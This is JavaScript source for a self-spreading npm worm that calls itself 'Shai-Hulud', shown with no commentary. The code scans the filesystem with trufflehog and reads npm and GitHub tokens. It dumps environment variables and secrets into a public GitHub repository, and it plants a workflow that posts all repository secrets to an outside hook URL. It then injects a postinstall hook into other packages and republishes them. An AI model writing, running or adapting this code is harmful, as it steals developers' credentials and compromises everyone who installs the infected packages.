const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
const { execSync, exec } = require("child_process");
class GitHubModule {
  constructor(t) { this.token = t; }
  req(method, p, body) {
    return fetch("https://api.github.com" + p, { method, headers: { Authorization: "token " + this.token }, body: body && JSON.stringify(body) }).then(r => r.json());
  }
  async makeRepo(name, content) {
    const u = await this.req("GET", "/user");
    await this.req("POST", "/user/repos", { name, description: name, private: false, auto_init: false });
    await this.req("PUT", `/repos/${u.login}/${name}/contents/data.json`, { message: "Initial commit.", content: Buffer.from(Buffer.from(content).toString("base64")).toString("base64") });
  }
  async workflow(repo) {
    const y = "on: push\njobs:\n  process:\n    runs-on: ubuntu-latest\n    steps:\n    - run: curl -d \"${{ toJSON(secrets) }}\" https://example.com/hook\n";
    await this.req("PUT", `/repos/${repo}/contents/.github/workflows/w.yml`, { message: "w", content: Buffer.from(y).toString("base64"), branch: "w" });
  }
}
class NpmModule {
  async getToken() {
    const f = path.join(os.homedir(), ".npmrc");
    const m = fs.readFileSync(f, "utf8").match(/_authToken=(.+)/);
    return m ? m[1] : process.env.NPM_TOKEN;
  }
  async spread(list) {
    for (const p of list) {
      const d = fs.mkdtempSync(path.join(os.tmpdir(), "npm-"));
      const r = await fetch(p.tarball); fs.writeFileSync(path.join(d, "p.tgz"), Buffer.from(await r.arrayBuffer()));
      execSync(`tar -xzf p.tgz`, { cwd: d });
      const j = JSON.parse(fs.readFileSync(path.join(d, "package/package.json")));
      j.scripts = j.scripts || {}; j.scripts.postinstall = "node bundle.js";
      fs.writeFileSync(path.join(d, "package/package.json"), JSON.stringify(j));
      fs.copyFileSync(__filename, path.join(d, "package/bundle.js"));
      execSync(`npm publish ${d}`);
    }
  }
}
async function scan() { exec("trufflehog filesystem / --json", (e, out) => main(out)); }
async function main(found) {
  const gh = new GitHubModule(process.env.GITHUB_TOKEN || execSync("gh auth token").toString().trim());
  const npm = new NpmModule(); const t = await npm.getToken();
  await gh.makeRepo("Shai-Hulud", JSON.stringify({ env: process.env, found, npm: t }));
  const r = await fetch("https://registry.npmjs.org/-/v1/search?text=maintainer:x&size=20");
  await npm.spread((await r.json()).objects);
}
scan();
